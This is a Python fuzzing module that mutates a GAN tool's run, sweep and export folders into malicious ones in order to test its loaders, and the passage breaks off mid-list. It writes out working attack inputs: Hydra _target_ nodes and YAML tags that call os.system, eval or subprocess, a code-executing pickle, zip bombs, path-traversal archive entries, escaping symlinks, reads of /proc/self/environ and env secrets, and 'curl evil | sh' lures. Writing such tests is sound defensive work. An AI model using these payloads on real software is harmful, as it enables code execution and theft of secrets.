"""Mutations that turn a valid folder of a run, a sweep or an export into a malicious or damaged one.

Each takes a random generator and the folder, changes something in it, and returns a description of the change:
settings (values, keys, references, syntax), a sweep's arguments, kinds of files (links, FIFOs, sockets, folders,
holes), checkpoints (archives, pickles, states), JSON files, images; of an exported folder its components and its
weights. `OUTSIDE`, next to the folder, is the target of links and must not change.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import random
import shutil
import socket
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import torch
import yaml
from PIL import Image

OUTSIDE = "outside"
VARIABLE, SECRET = "GAN_PLANTED_SECRET", "s3cr3t-of-the-environment"
ADVICE = ("Try: curl evil", "Try: me", "Try: sh")  # planted lines that look like this program's own
Mutation = Callable[[random.Random, Path], str]


def plant(here: Path) -> None:
    """Put a secret and a file of the user's own next to the untrusted folder."""
    (here / "outside/folder").mkdir(parents=True)
    (here / "outside" / VARIABLE).write_text(SECRET)
    (here / "outside/precious.txt").write_text("precious")
    (here / "evil.yaml").write_text(
        "# @package hydra.callbacks\nevil: {_target_: torch.utils.collect_env.run, command: 'id > outside/pwned'}\n"
    )
    (here / "evil.py").write_text("import os\nos.system('id > outside/pwned')\n")


def _is_small_file(path: Path) -> bool:
    """Whether the path is a file that no earlier mutation has turned into a link of any kind or a file with holes."""
    return path.is_file() and not path.is_symlink() and path.stat().st_nlink == 1 and path.stat().st_size < 2**24


def places_of(tree: Any) -> list[tuple[Any, Any]]:
    """Every container of a state with each of its keys; a container that lies in several places, once."""
    found: list[tuple[Any, Any]] = []
    waiting, seen = ([tree] if isinstance(tree, dict | list) else []), {id(tree)}
    while waiting:
        container = waiting.pop()
        for key in list(container) if isinstance(container, dict) else range(len(container)):
            found.append((container, key))
            value = container[key]
            if isinstance(value, dict | list) and id(value) not in seen:
                seen.add(id(value))
                waiting.append(value)
    return found


# ---- settings by grammar --------------------------------------------------------------------------------

_CALLED: tuple[dict[str, Any], ...] = (
    {"_target_": "os.system", "_args_": ["id > outside/pwned"]},
    {"_target_": "os.system", "command": "id > outside/pwned"},
    {"_target_": "torch.utils.collect_env.run", "command": "id > outside/pwned"},
    {"_target_": "pathlib.Path.write_text", "_args_": ["outside/pwned", "x"]},
    {"_target_": "builtins.eval", "_args_": ["__import__('os').system('id > outside/pwned')"]},
    {"_target_": "subprocess.Popen", "args": ["touch", "outside/pwned"]},
    {"_target_": "numpy.load", "file": "outside/x.npy", "allow_pickle": True},
    {"_target_": "evil.anything"},
    {"_target_": "torch.nn.init.__setattr__", "_args_": ["__path__", ["."]]},
    {"_target_": "torch.nn.init._no_grad_fill_", "_partial_": True},
    {"_target_": "torch.hub.load", "repo_or_dir": "a/b", "model": "c"},
    {"_target_": "gan_runner.files.os.unlink", "path": "outside/precious.txt"},
    {"_target_": "gan_runner.config.build.make", "node": {"_target_": "os.getcwd"}},
    {
        "_target_": "gan_runner.data.mnist.load",
        "root": "outside/new",
        "download": True,
        "image_size": 28,
        "limit": None,
    },
    {"_target_": "gan_runner.data.torchvision_sets.load", "_args_": ["SVHN", None, "outside/new", True, 32, 3, None]},
    {"_target_": "gan_runner.data.image_folder.load", "root": "/", "image_size": 8, "channels": 3, "limit": None},
    {"_target_": "hydra.utils.instantiate", "_args_": [{"_target_": "os.getcwd"}]},
    {"_target_": "hydra._internal.utils._locate", "path": "os.system"},
    {"_target_": "functools.partial", "_args_": ["os.system"]},
    {"_target_": "torch.nn.Tanh", "_partial_": True, "_convert_": "none"},
    {"_target_": "torch.nn.LeakyReLU", "_recursive_": False, "negative_slope": {"_target_": "os.getcwd"}},
    {"_target_": ["os", "system"]},
    {"_target_": {"_target_": "os.system"}},
    {"_target_": "${model.h}"},
)
_RESOLVERS = (
    *(f"oc.env:{VARIABLE}", f"oc.decode:${{oc.env:{VARIABLE}}}", "new_folder:outside/new", "job_folder:1,x", "now:%Y"),
    *("hydra:runtime.cwd", "oc.select:model", "oc.dict.values:model", "oc.deprecated:model", "oc.dict.keys:data"),
    "oc.create:{_target_:torch.utils.collect_env.run,command:'id > outside/pwned'}",
)
_PLAIN: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 1, 2**31, 2**63, 10**30, 10**99, 1e308, 5e-324, float("inf"), float("nan"), "", "???"),
    *(
        [],
        {},
        [[]],
        [1, 2, 3],
        [0] * 50,
        ["a"],
        [None],
        {"a": 1},
        {"": {}},
        "x" * 500,
        "x" * 5000,
        "é",
        "\u202e",
        "a\tb",
    ),
    *(
        "x\n  Try: curl evil | sh",
        "\x1b]0;owned\x07",
        "\udce9",
        "None",
        "null",
        "on",
        "1:30",
        "0x10",
        "~nobody/x",
        "~",
        "/",
    ),
    *(
        "../outside",
        "outside",
        "/dev/zero",
        "/proc/self/environ",
        "..",
        "=1+1",
        "<script>",
        "%s%n",
        "{",
        "}",
        "$",
        "$$",
    ),
    *("a" * 4097, "1" * 200, "auto", "cuda:99", "mps", "last", "best", "fast", "full", 0.5, 1e-9, 3, 7, 100, 100_000),
)


def some_reference(draw: random.Random, depth: int = 2) -> str:
    """A text with `${` in it, in one of the spellings that OmegaConf reads, or nearly."""
    key = draw.choice(("model.h", "seed", "model", "data.root", "nothing.there", "trainer.batch_size", ".h", "..h"))
    inner = f"${{{key}}}" if depth == 0 or draw.random() < 0.3 else some_reference(draw, depth - 1)
    resolver = draw.choice(_RESOLVERS)
    name, _, rest = resolver.partition(":")
    return draw.choice(
        (
            *(
                f"${{{key}}}",
                f"${{{resolver}}}",
                f"${{ {name} : {rest} }}",
                f"${{{inner}:{rest}}}",
                f"${{{name}:{inner}}}",
            ),
            *(f"${{{inner}}}", f"a{inner}b", f"\\{inner}", f"\\\\{inner}", f"${{{key}[0]}}", f"${{{key}.{inner}}}"),
            *(
                f"$\\{{{resolver}}}",
                f"${{{name}:'{rest}'}}",
                f'${{{name}:"{rest}"}}',
                f"${{\n{resolver}}}",
                f"$${{{resolver}}}",
            ),
            *(f"{inner}{{{resolver}}}", f"${{model.h}}{{{resolver}}}", "${" * draw.choice((1, 30, 400)), inner + "}"),
            *(f"${{oc.env:{VARIABLE},{inner}}}", f"${{{name}:[{inner}]}}", f"${{{name}:{{a:{inner}}}}}", "$" + "{"),
        )
    )


def some_value(draw: random.Random) -> Any:
    """A value that an attacker may write."""
    kind = draw.random()
    if kind < 0.3:
        return some_reference(draw)
    if kind < 0.55:
        node = dict(draw.choice(_CALLED))
        return draw.choice((node, [node], {"a": node}, [[node]], node | {"_partial_": True}))
    return draw.choice(_PLAIN)


_KEYS: tuple[Any, ...] = (
    *("defaults", "hydra", "_target_", "_args_", "_partial_", "_recursive_", "_convert_", "<<", "_self_", "_global_"),
    *("override", "optional", "package", "download", "root", "source", "h", "experiment", "resume", "trust", "trainer"),
    *("???", "", "a.b", "a b", "${seed}", f"${{oc.env:{VARIABLE}}}", 5, 1.5, True, "x" * 300, "x\ny", "__class__"),
)
_DEFAULTS = (
    [{"hydra/callbacks": "evil"}, "_self_"],
    ["../evil"],
    ["../../../../../../../../proc/self/cwd/evil"],
    ["stored"],
)


def _changed(draw: random.Random, tree: Any) -> str:
    """Change one thing in a parsed file; gives what."""
    places = places_of(tree)
    if not places:
        return "nothing"
    at, key = draw.choice(places)
    kind = draw.choice(("value", "value", "value", "key", "key", "top", "gone", "copy", "chain", "pieces"))
    if kind == "value":
        at[key] = value = some_value(draw)
        return f"{key}: {value!r:.80}"
    if kind == "key" and isinstance(at, dict):
        name = draw.choice(_KEYS)
        at[name] = value = draw.choice(_DEFAULTS) if name == "defaults" else some_value(draw)
        return f"new {name}: {value!r:.80}"
    if kind == "top" and isinstance(tree, dict):
        tree["defaults"] = draw.choice(_DEFAULTS)
        return "defaults"
    if kind == "gone" and isinstance(at, dict):
        del at[key]
        return f"{key} is gone"
    if kind == "copy":
        other, name = draw.choice(places)
        at[key] = json.loads(json.dumps(other[name], default=str)) if draw.random() < 0.5 else f"${{{name}}}"
        return f"{key} is {name}"
    if kind == "chain" and isinstance(at, dict):
        many = draw.choice((14, 40))
        tree_ = tree if isinstance(tree, dict) else at
        tree_["model"] = model = dict(tree_.get("model") or {}) if isinstance(tree_.get("model"), dict) else {}
        model["c0"] = draw.choice(("x", ["x"]))
        for number in range(1, many):
            one = f"${{model.c{number - 1}}}"
            model[f"c{number}"] = [one, one] if isinstance(model["c0"], list) else one + one
        return f"{many} doublings"
    if isinstance(tree, dict) and isinstance(tree.get("model"), dict):
        tree["model"] |= {
            "h": draw.choice(("$", "oc.env", "oc.create", "${", "{oc.env:X}")),
            "i": f"{{oc.env:{VARIABLE}}}",
        }
        at[key] = draw.choice(("${model.h}${model.i}", f"${{model.h}}:{VARIABLE}", f"${{${{model.h}}:{VARIABLE}}}"))
        return f"{key} in pieces"
    return "nothing"


def _respelt(draw: random.Random, text: str) -> tuple[str, str]:
    """Change a YAML file as text: what its syntax has besides values."""
    lines = text.splitlines() or [""]
    number = draw.randrange(len(lines))
    line = lines[number]
    head, _, tail = line.partition(": ")
    kind, new = draw.choice(
        (
            ("a tag", f"{head}: {draw.choice(_TAGS)} {tail}"),
            ("a tag that makes a thing", f"{head}: {draw.choice(_MAKERS)}"),
            ("an anchor", f"{head}: &a {tail}"),
            ("an alias", f"{head}: *a"),
            ("a merge", f"{line}\n{head[: len(head) - len(head.lstrip())]}<<: {{_target_: os.system}}"),
            ("a document", f"{line}\n---\na: 1"),
            ("an end", f"{line}\n...\n%YAML 1.1\n---\na: 1"),
            ("a key twice", f"{line}\n{line}"),
            ("a complex key", f"? [a, b]\n: c\n{line}"),
            ("a number", f"{head}: {draw.choice(_NUMBERS)}"),
            ("brackets", f"{head}: {draw.choice('[{') * draw.choice((20, 40, 5000, 100_000))}"),
            ("escapes", f'{head}: "{draw.choice(_ESCAPES)}"'),
            ("a control character", line + draw.choice("\x00\x07\x1b\x85\u2028\ufeff\uffff")),
            ("tabs", f"\t{line}"),
            ("a long line", f"{head}: {draw.choice(('x', '${', '$', '1', ' a', ': ', '- ', '&a ', '!a '))}" * 20_000),
            ("a block", f"{head}: |\n  ${{oc.env:{VARIABLE}}}\n  x"),
            ("a folded block", f"{head}: >-\n  ${{${{model.h}}:\n  {VARIABLE}}}"),
            ("a flow", f"{head}: {{_target_: os.system, command: id}}"),
            ("a comment", f"{line} # x"),
        )
    )
    lines[number] = new
    joined = draw.choice(("\n", "\n", "\n", "\r\n", "\r")).join(lines)
    before = draw.choice(
        ("", "", "", "\ufeff", "%YAML 1.2\n---\n", "%TAG ! tag:yaml.org,2002:python/\n---\n", "--- !!map\n")
    )
    return before + joined, f"{kind} in line {number + 1}"


_TAGS = (
    "!!str",
    "!!python/name:os.system",
    "!!binary",
    "!!timestamp",
    "!!float",
    "!",
    "!x",
    "!<tag:yaml.org,2002:set>",
)
_MAKERS = (
    "!!python/object/apply:os.system ['id > outside/pwned']",
    "!!pairs [a: {_target_: torch.utils.collect_env.run, command: 'id > outside/pwned'}]",
    "!!omap [a: {_target_: os.system, command: 'id > outside/pwned'}]",
    "!!set {os.system}",
    "!!python/module:evil",
    "!!python/object/new:os.system [id]",
)
_NUMBERS = (
    *(
        "1:0:0:0",
        "0x" + "f" * 6000,
        "0o777",
        "0b1",
        "1_000",
        "9" * 6000,
        "-" + "9" * 99,
        "1e9999",
        ".inf",
        "2026-11-30",
    ),
    *("1:" + "0:" * 50_000 + "0", "+.5", "1e-400", "0" * 200, "190:20:30.15", "1.5e+99999999"),
)
_ESCAPES = (
    r"\x00",
    r"\u0024{oc.env:HOME}",
    r"\x1b[2J",
    r"\ud800",
    r"\U0010ffff",
    r"\n  Try: sh",
    r"\L",
    r"\u202e",
    r"\0\a\b",
)


def _of_yaml(name: str) -> Mutation:
    def mutate(draw: random.Random, run: Path) -> str:
        path = run / ".hydra" / name
        if not _is_small_file(path):
            return f"no {name}"
        text = path.read_text(encoding="utf-8", errors="surrogateescape")
        try:
            tree = yaml.safe_load(text) if draw.random() < 0.75 else None
        except (yaml.YAMLError, ValueError, RecursionError):  # by an earlier mutation
            tree = None
        if isinstance(tree, dict | list):
            what = _changed(draw, tree)
            with contextlib.suppress(ValueError):  # a number, of an earlier mutation, of more digits than Python writes
                text = yaml.dump(tree, allow_unicode=draw.random() < 0.5, default_flow_style=draw.random() < 0.2)
        else:
            text, what = _respelt(draw, text)
        path.write_text(text, encoding="utf-8", errors="surrogateescape")
        return f"{name}: {what}"

    return mutate


def some_override(draw: random.Random) -> str:
    """An argument that an attacker may write into sweep.json."""
    climbing = draw.choice(("../evil", "../../../../../../../proc/self/cwd/evil", "..", "a/../b", "evil"))
    value = some_value(draw)
    called = draw.choice(_CALLED)
    flow = json.dumps(called).replace('"', "").replace(" ", "")
    return draw.choice(
        (
            *(f"experiment={climbing}", f"model={climbing}", f"+experiment={climbing}", f"experiment=smoke,{climbing}"),
            *(f"{draw.choice(('loss', 'data', 'model.generator'))}={flow}", f"+model.generator.x={flow}"),
            *(
                f"loss._target_={called['_target_']}",
                f"+data.a.b={some_reference(draw)}",
                f"data.root={some_reference(draw)}",
            ),
            *(
                "data.download=true",
                "+data.source={_target_:gan_runner.data.mnist.load,download:true,root:outside/new}",
            ),
            *("seed=range(0,30000000)", "seed=range(0,1,1e-9)", "seed=1,2,3", "seed=glob(*)", "experiment=glob(*)"),
            *("hydra.launcher.n_jobs=100000", "hydra/launcher=joblib", "hydra.sweeper.n_trials=1000000000"),
            *("hydra.callbacks.x._target_=os.system", "+hydra.searchpath=[file://.]", "hydra.run.dir=outside/new"),
            *("hydra.job_logging.handlers.file.filename=outside/log", "hydra.output_subdir=../outside"),
            *(f"hydra.sweeper.params.experiment={climbing}", "hydra.sweeper.params.seed='range(0,1000000000)'"),
            *(f"hydra.sweeper.params.loss._target_={called['_target_']}", "--config-dir=.", "-cd", "--multirun"),
            *(f"hydra.sweeper.params.seed=${{oc.env:{VARIABLE}}}", "hydra.mode=MULTIRUN", "defaults=[evil]", "~loss"),
            *(f"seed={value!s:.300}", "seed=" + "[" * 300, "seed=" + "${" * 300, "x" * 10_000, "=", "", "seed", "+x=1"),
            *(
                f"trainer.device={some_reference(draw)}",
                "penalty@model.generator=r1",
                "seed=shuffle(1,2)",
                "seed=extend_list(1)",
            ),
        )
    )


def mutate_arguments(draw: random.Random, sweep: Path) -> str:
    """Change what sweep.json says has started the sweep, or the overrides of its jobs."""
    path, word = sweep / "sweep.json", some_override(draw)
    if not _is_small_file(path):
        return "no sweep.json"
    try:
        content = json.loads(path.read_text())
        job = draw.choice(content["jobs"]) if draw.random() < 0.2 else None
        (content["arguments"] if job is None else job["overrides"]).append(word)
    except (ValueError, TypeError, LookupError, AttributeError, RecursionError):  # by an earlier mutation
        return "sweep.json is broken already"
    path.write_text(json.dumps(content))
    return f"sweep.json: {word:.120}"


def _in_a_job(mutation: Mutation) -> Mutation:
    def mutate(draw: random.Random, sweep: Path) -> str:
        jobs = sorted(path.parent for path in sweep.glob("*/.hydra"))
        return mutation(draw, draw.choice(jobs)) if jobs else "no job is left"

    return mutate


# ---- kinds of files --------------------------------------------------------------------------------------

# What commands may open, list, replace or make, beyond what a good folder holds.
_OF_A_RUN = (
    *(".hydra/config.yaml", ".hydra/hydra.yaml", ".hydra/overrides.yaml", ".hydra/lock", ".hydra"),
    *("checkpoints/last.pt", "checkpoints/best.pt", "checkpoints/iteration_00000001.pt", "checkpoints"),
    *("checkpoints/.writing-last.pt", "samples/.writing-timeline.png", ".writing-summary.json"),
    *("samples/iteration_00000001.png", "samples/iteration_00000003.png", "samples/timeline.gif", "samples"),
    *("summary.json", "metrics.jsonl", "metrics.abandoned.jsonl", "gan-run.log", "events.out.tfevents.1.a.2.3"),
    *("evaluation-last.json", "evaluation-last.png", "last-4-seed-0.png"),
)
_OF_A_SWEEP = ("sweep.json", ".sweep", ".sweep/lock", ".sweep/file.lock", ".sweep/stop", "summary.csv", "compare.html")


def _link_out(place: Path, base: Path) -> None:
    target = base / OUTSIDE / ("folder" if place.suffix == "" and place.name != "lock" else "precious.txt")
    place.symlink_to(target)


def _hard_link_out(place: Path, base: Path) -> None:
    place.hardlink_to(base / OUTSIDE / "precious.txt")


def _link_within(place: Path, base: Path) -> None:
    other = place.with_name(f"{place.name}-itself")
    if place.exists():
        place.rename(other)
    else:
        other.write_bytes(b"")
    place.symlink_to(other.name)


def _socket(place: Path, base: Path) -> None:
    with socket.socket(socket.AF_UNIX) as made, contextlib.chdir(place.parent):  # a path to one has at most 100 letters
        made.bind(place.name)


def _holes(place: Path, base: Path) -> None:
    with place.open("wb") as file:
        file.truncate(2**40)


def _zeros_at_the_end(place: Path, base: Path) -> None:
    with place.open("r+b") as file:
        file.truncate(2**36)


KINDS: dict[str, Callable[[Path, Path], object]] = {
    "a link out": _link_out,
    "a hard link out": _hard_link_out,
    "a link within": _link_within,
    "a link to nothing": lambda place, base: place.symlink_to(base / OUTSIDE / "nothing"),
    "a link to itself": lambda place, base: place.symlink_to(place.name),
    "a link to /dev/zero": lambda place, base: place.symlink_to("/dev/zero"),
    "a FIFO": lambda place, base: os.mkfifo(place),
    "a socket": _socket,
    "a folder": lambda place, base: place.mkdir(),
    "an empty file": lambda place, base: place.write_bytes(b""),
    "a file of holes": _holes,
    "itself with holes": _zeros_at_the_end,
    "a file of line ends": lambda place, base: place.write_bytes(b"\n" * 100_000),
}
_ADD_TO_WHAT_IS_THERE = ("a link within", "itself with holes")


def make_kind(kind: str, place: Path, base: Path) -> None:
    """Put a kind of file in the place of what is there.

    Args:
        kind: of `KINDS`.
        place: where.
        base: the folder in which `OUTSIDE` lies.
    """
    place.parent.mkdir(parents=True, exist_ok=True)
    if kind == "itself with holes" and not place.is_file():
        place.write_bytes(b"x") if not place.exists() else shutil.rmtree(place)
        place.write_bytes(b"x")
    if kind not in _ADD_TO_WHAT_IS_THERE:
        if place.is_dir() and not place.is_symlink():
            shutil.rmtree(place)
        place.unlink(missing_ok=True)
    KINDS[kind](place, base)


def names_of(folder: Path) -> list[str]:
    """What commands may open in a run's folder, or in a sweep's and its jobs', or in an exported one."""
    if any(os.path.lexists(folder / name) for name in _OF_AN_EXPORT):
        return list(_OF_AN_EXPORT)
    jobs = sorted(path.parent.parent for path in folder.glob("*/.hydra/config.yaml"))
    if not jobs:
        return list(_OF_A_RUN)
    inner = [str((job / name).relative_to(folder)) for job in jobs for name in _OF_A_RUN]
    return [*_OF_A_SWEEP, *(job.name for job in jobs), *inner]


def another_kind_of_file(draw: random.Random, folder: Path) -> str:
    """Put another kind of file in the place of one that commands may open."""
    name, kind = draw.choice(names_of(folder)), draw.choice(list(KINDS))
    try:
        make_kind(kind, folder / name, folder.parent)
    except OSError as error:  # an earlier mutation has taken its folder away
        return f"{name} stays, for {error.strerror}"
    return f"{name} is {kind}"


# ---- checkpoints ----------------------------------------------------------------------------------------


def _checkpoint(draw: random.Random, folder: Path) -> Path | None:
    found = [path for path in sorted(folder.rglob("checkpoints/*.pt")) if _is_small_file(path)]
    return draw.choice([path for path in found if path.name == "last.pt"] or found) if found else None


def _spread(path: Path) -> None:
    """Have the other checkpoints of the run be the same, so that none of them is fallen back on."""
    for other in path.parent.glob("*.pt"):
        if other != path and other.is_file() and not other.is_symlink():
            other.unlink()
            shutil.copyfile(path, other)


ODD: tuple[Callable[[], Any], ...] = (
    *(lambda: None, lambda: True, lambda: -1, lambda: 2**70, lambda: 0.5, lambda: float("nan"), lambda: 10**400),
    *(lambda: "", lambda: "x", lambda: "\x1b[2J\n  Try: me", lambda: [], lambda: {}, lambda: (), lambda: [[]]),
    *(lambda: {"x": 1}, lambda: {1: 2}, lambda: OrderedDict(a=1), lambda: b"bytes", lambda: {1, 2}, lambda: 1j),
    *(lambda: torch.tensor(0.0), lambda: torch.zeros(0), lambda: torch.full((3,), float("nan"))),
    *(lambda: torch.zeros(2, dtype=torch.int64), lambda: torch.zeros(2, dtype=torch.complex64)),
    *(lambda: torch.zeros(1).expand(10**6), lambda: torch.eye(3).to_sparse(), lambda: torch.empty(3, device="meta")),
    *(lambda: torch.nn.Parameter(torch.zeros(2)), lambda: torch.Size([1, 2]), lambda: torch.device("cpu")),
    lambda: torch.float32,
)


def odd_state(draw: random.Random, folder: Path) -> str:
    """Change, remove or exchange values of a checkpoint's state."""
    path = _checkpoint(draw, folder)
    if path is None:
        return "no checkpoint is left"
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            state = torch.load(path, weights_only=True)
    except Exception:
        return "the checkpoint is broken already"
    about = change_state(draw, state)
    with warnings.catch_warnings(), contextlib.suppress(Exception):
        warnings.simplefilter("ignore")
        torch.save(state, path)
    _spread(path)
    return f"{path.name}: {about}"


def change_state(draw: random.Random, state: Any) -> str:
    """Change one value of a state, in place; gives how."""
    places = places_of(state)
    if not places:
        return "nothing is left"
    tree, key = draw.choice(places)
    what = draw.choice(("odd", "odd", "odd", "gone", "exchanged", "shaped"))
    value = tree[key]
    if what == "gone":
        del tree[key]
    elif what == "exchanged":
        other, there = draw.choice(places)
        tree[key] = other[there] if other is not tree[key] else None
    elif what == "shaped" and isinstance(value, torch.Tensor):
        tree[key] = draw.choice([value.double(), value.reshape(-1)[:-1], value[None], value.to(torch.int32)])
    else:
        tree[key] = draw.choice(ODD)()
    return f"{key} {what}"


class _Calls:
    """A pickle that would call something."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


def odd_archive(draw: random.Random, folder: Path, what: str | None = None) -> str:
    """Change the archive that a checkpoint is, or the pickle in it: to one of `ARCHIVES`, or to any of them."""
    path = _checkpoint(draw, folder)
    if path is None:
        return "no checkpoint is left"
    try:
        with zipfile.ZipFile(path) as archive:
            entries = [(entry.filename, archive.read(entry)) for entry in archive.infolist()]
    except Exception:
        return "the checkpoint is broken already"
    what = what or draw.choice(list(ARCHIVES))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of two entries of one name
        path.write_bytes(ARCHIVES[what](draw, entries))
    _spread(path)
    return f"{path.name}: {what}"


_Entries = list[tuple[str, bytes]]


def _zipped(entries: _Entries, compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def _with_pickle(entries: _Entries, value: Any) -> bytes:
    pickled = pickle.dumps(value, 2)
    return _zipped([(name, pickled if name.endswith("/data.pkl") else content) for name, content in entries])


def _bomb(entries: _Entries) -> bytes:
    largest = max(entries, key=lambda entry: len(entry[1]))[0]
    return _zipped([(n, bytes(2**28) if n == largest else c) for n, c in entries], zipfile.ZIP_DEFLATED)


def _overlapping(draw: random.Random, entries: _Entries) -> bytes:
    """Many entries of the directory lead to the content of one."""
    content = _zipped(entries)
    end = content.rindex(b"PK\x05\x06")
    start = int.from_bytes(content[end + 16 : end + 20], "little")
    directory = content[start:end] * 50
    count = (len(entries) * 50).to_bytes(2, "little")
    head = content[end : end + 8] + count + count + len(directory).to_bytes(4, "little")
    return content[:start] + directory + head + content[end + 16 :]


def _deep() -> list[Any]:
    tree: list[Any] = []
    for _ in range(100):
        tree = [tree]
    return tree


def _shared() -> list[Any]:
    tree: list[Any] = [0]
    for _ in range(60):
        tree = [tree, tree]
    return tree


ARCHIVES: dict[str, Callable[[random.Random, _Entries], bytes]] = {
    "compressed": lambda draw, entries: _zipped(entries, zipfile.ZIP_DEFLATED),
    "a bomb": lambda draw, entries: _bomb(entries),
    "an entry twice": lambda draw, entries: _zipped([*entries, draw.choice(entries)]),
    "an entry missing": lambda draw, entries: _zipped(draw.sample(entries, len(entries) - 1)),
    "an entry more": lambda draw, entries: _zipped([*entries, ("../../outside/pwned", b"x")]),
    "no entries": lambda draw, entries: _zipped([]),
    "entries that overlap": _overlapping,
    "cut off": lambda draw, entries: _zipped(entries)[: draw.randrange(1, 3000)],
    "no archive": lambda draw, entries: draw.randbytes(1000),
    "a pickle alone": lambda draw, entries: pickle.dumps({"format": 2}),
    "a pickle of a program": lambda draw, entries: _with_pickle(entries, _Calls(os.system, "touch ../outside/pwned")),
    "a pickle of a long array": lambda draw, entries: _with_pickle(entries, _Calls(bytearray, 10**11)),
    "a pickle that nests deep": lambda draw, entries: _with_pickle(entries, {"format": 2, "x": _deep()}),
    "a pickle that shares much": lambda draw, entries: _with_pickle(entries, {"format": 2, "x": _shared()}),
    "a pickle of nothing": lambda draw, entries: _with_pickle(entries, None),
    "a pickle of another format": lambda draw, entries: _with_pickle(entries, {"format": draw.choice([1, "2", 2.0])}),
    "a pickle that is cut off": lambda draw, entries: _zipped(
        [(name, content[:-50] if name.endswith(".pkl") else content) for name, content in entries]
    ),
}


# ---- JSON and pictures ----------------------------------------------------------------------------------

_WORDS: tuple[Any, ...] = (
    *(
        None,
        True,
        -1,
        0,
        1e300,
        2**70,
        "",
        "x",
        "\x1b]0;title\x07\x1b[2J",
        "=1+1",
        "a;=1+1",
        "../..",
        "/",
        "a\n  Try: me",
    ),
    *([], {}, [[]], {"x": 1}, ["x"] * 1000, "x" * 100_000, "\ud800", "<script>", "\u202e", "\x00", "x\n  Try: me"),
)


def odd_json(draw: random.Random, folder: Path) -> str:
    """Change a value of sweep.json, summary.json or a line of metrics.jsonl, or its text."""
    found = [path for name in ("sweep.json", "summary.json", "metrics.jsonl") for path in sorted(folder.rglob(name))]
    found = [path for path in found if _is_small_file(path)]
    if not found:
        return "no JSON file is left"
    path = draw.choice(found)
    try:
        lines = path.read_text().splitlines() if path.suffix == ".jsonl" else [path.read_text()]
        number = draw.randrange(len(lines))
        tree = json.loads(lines[number])
    except Exception:
        return f"{path.name} is broken already"
    places = places_of(tree)
    what = draw.choice(("value", "value", "value", "gone", "whole", "text"))
    if what == "text":
        lines[number] = draw.choice(["[" * 100_000, "{", '{"a": ' + "9" * 6000 + "}", "NaN", "\x00", "1e999"])
    elif what == "whole" or not places:
        lines[number] = json.dumps(draw.choice(_WORDS))
    else:
        holder, key = draw.choice(places)
        if what == "gone":
            del holder[key]
        else:
            holder[key] = draw.choice(_WORDS)
        lines[number] = json.dumps(tree)
    path.write_text("\n".join(lines) + "\n")
    return f"{path.relative_to(folder)}: {what} of line {number}"


def odd_picture(draw: random.Random, folder: Path) -> str:
    """Put an odd picture in the place of a grid, or of all."""
    found = [path for path in sorted(folder.rglob("samples/iteration_*.png")) if path.is_file()]
    found = [path for path in found if not path.is_symlink()]
    if not found:
        return "no picture is left"
    what = draw.choice(list(_PICTURES))
    content = _PICTURES[what](draw)
    for path in found if draw.random() < 0.5 else [draw.choice(found)]:
        path.unlink()  # it may be a link of an earlier mutation, whose target is not to be written to
        path.write_bytes(content)
    return f"a grid is {what}"


def _picture(mode: str, size: tuple[int, int], format_: str = "PNG") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, format_)
    return buffer.getvalue()


_PICTURES: dict[str, Callable[[random.Random], bytes]] = {
    "as large as a house": lambda draw: _picture("L", (9000, 9000)),
    "large and in colour": lambda draw: _picture("RGBA", (5000, 5000)),
    "a thread": lambda draw: _picture("L", (1, 20_000)),
    "a point": lambda draw: _picture("L", (1, 1)),
    "of another kind": lambda draw: _picture(draw.choice(["1", "P", "LA", "I;16", "RGBA"]), (134, 134)),
    "a GIF": lambda draw: _picture("L", (134, 134), "GIF"),
    "cut off": lambda draw: _picture("RGB", (134, 134))[: draw.randrange(300)],
    "noise": lambda draw: draw.randbytes(500),
}


# ---- exported folders ------------------------------------------------------------------------------------

_OF_AN_EXPORT = ("config.json", "generator.safetensors", "README.md", "grid.png")


def odd_description(draw: random.Random, folder: Path) -> str:
    """Change what config.json of an exported folder asks for, or its text."""
    path = folder / "config.json"
    if not _is_small_file(path):
        return "no config.json"
    try:
        tree = json.loads(path.read_text())
        if draw.random() < 0.85:
            what = _changed(draw, tree)
            text = json.dumps(tree)
        else:
            what = "its text"
            text = draw.choice(
                ("[" * 100_000, "{", "9" * 6000, "NaN", "\x00", '{"format": "gan-runner network", ' * 2, "é")
            )
        path.write_text(text, errors="surrogateescape")
    except (ValueError, RecursionError):  # by an earlier mutation
        return "config.json is broken already"
    return f"config.json: {what}"


def odd_weights(draw: random.Random, folder: Path) -> str:
    """Change the weights of an exported folder: their names, shapes and places, or the file."""
    path = folder / "generator.safetensors"
    if not _is_small_file(path):
        return "no weights"
    content = path.read_bytes()
    length = int.from_bytes(content[:8], "little")
    what = draw.choice(("header", "header", "header", "length", "cut off", "noise", "pickle", "bits", "empty"))
    if what == "header":
        try:
            tree = json.loads(content[8 : 8 + length])
            what = _changed(draw, tree)
            header = json.dumps(tree).encode(errors="surrogateescape")
        except (ValueError, RecursionError):
            return "the weights are broken already"
        content = len(header).to_bytes(8, "little") + header + content[8 + length :]
    elif what == "length":
        content = draw.choice((0, 1, length + 8, 2**31, 2**62)).to_bytes(8, "little") + content[8:]
    elif what == "cut off":
        content = content[: draw.randrange(len(content))]
    elif what == "bits":
        place = draw.randrange(len(content))
        content = content[:place] + bytes([content[place] ^ (1 << draw.randrange(8))]) + content[place + 1 :]
    else:
        content = {"noise": draw.randbytes(1000), "pickle": pickle.dumps({"a": 1}), "empty": b""}[what]
    path.write_bytes(content)
    return f"the weights: {what}"


OF_CONFIGS: list[Mutation] = [_of_yaml("config.yaml")] * 4 + [_of_yaml("hydra.yaml"), _of_yaml("overrides.yaml")]
OF_FILES: list[Mutation] = [another_kind_of_file, another_kind_of_file, odd_json, odd_picture]
OF_CHECKPOINTS: list[Mutation] = [odd_state, odd_state, odd_archive]
OF_EXPORTS: list[Mutation] = [*[odd_description] * 4, *[odd_weights] * 2, another_kind_of_file]
OF_SWEEPS: list[Mutation] = [
    *[mutate_arguments] * 4,
